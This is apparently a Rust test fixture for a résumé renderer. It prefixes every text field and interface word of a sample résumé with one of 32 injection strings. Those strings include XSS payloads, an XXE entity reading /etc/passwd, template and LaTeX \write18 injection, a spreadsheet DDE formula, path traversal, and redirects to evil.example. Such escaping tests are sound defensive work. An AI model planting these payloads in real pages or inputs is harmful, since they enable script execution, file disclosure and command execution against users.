//! A résumé in which every text is an attack.
//!
//! Never says what is made of it.

use resume::words::{ALL, Language};
use serde_json::Value;

use crate::everything::{everything, marks_in};

/// What has broken pages, data, styles, scripts, documents and templates
/// elsewhere. Each can stand in a résumé as the words that it is.
pub const ATTACKS: [&str; 32] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT\t><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus '",
    "` onclick=`alert(1)` ``",
    "</title><iframe srcdoc='<script>alert(1)</script>'>",
    "</style><style>*{display:none}</style>",
    "</textarea></template></noscript><plaintext>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "]]><![CDATA[<x/>",
    "-->--!><script>alert(1)</script>",
    "<!--<script>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;quot; &#60;b&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {% x %}",
    "\\\"}; alert(1); //",
    "\\3c /style\\3e \\22 ;} @import url(//evil.example); a{b:\"",
    "#sys.version #eval(\"1+1\") #read(\"/etc/passwd\") $1/0$ @label <label> // /* */",
    "#link(\"javascript:alert(1)\")[x] `raw` = heading",
    "\\input{/etc/passwd} \\write18{id} %0A",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "a\nEND:VCARD\nBEGIN:VCARD\nFN:Evil",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "\u{200b}\u{200d}\u{feff}\u{ad}zero\u{2060}width",
    "\u{2028}alert(1)\u{2029}\u{fffd}\u{e000}\u{10ffff}",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}",
];

/// A résumé that has everything, each of its texts begun by an attack. With
/// every number, each place has another one.
pub fn attacked(number: usize) -> Value {
    fn walk(value: &mut Value, number: usize) {
        match value {
            Value::Object(pairs) => {
                let pairs = pairs.iter_mut();
                let pairs = pairs.filter(|(key, _)| !["id", "image"].contains(&key.as_str()));
                pairs.for_each(|(_, value)| walk(value, number));
            }
            Value::Array(items) => items.iter_mut().for_each(|item| walk(item, number)),
            // What has to be of some form cannot be an attack, and is tried
            // elsewhere.
            Value::String(text) if marks_in(text).first() == Some(text) => {
                let place: usize = text[2..5].parse().expect("a mark has a number");
                *text = format!("{} {text}", ATTACKS[(place + number) % ATTACKS.len()]);
            }
            _ => {}
        }
    }
    let mut resume = everything();
    walk(&mut resume, number);
    resume["url"] = "https://a.example/".into();
    let label = ATTACKS[number % ATTACKS.len()];
    let image = resume["basics"]["image"].as_str().unwrap_or_default();
    resume["basics"]["image"] = format!("./{label} {image}").into();
    resume["variants"] = serde_json::json!({"short": {"label": label, "summary": label}});
    resume
}

/// What the page says of itself, each word begun by an attack.
pub fn attacked_words(number: usize) -> Value {
    // In braces stands what is filled in.
    let attacks: Vec<_> = (ATTACKS.iter())
        .filter(|attack| !attack.contains(['{', '}']))
        .collect();
    let mut language = Language::default();
    for (place, (word, ..)) in ALL.iter().enumerate() {
        let attack = attacks[(place + number) % attacks.len()];
        let forms = language.words.forms(*word);
        let forms: Vec<_> = (forms.iter())
            .map(|form| format!("{attack} {form}"))
            .collect();
        language
            .words
            .set(*word, &forms)
            .expect("its own parts stand");
    }
    language.own_words()
}
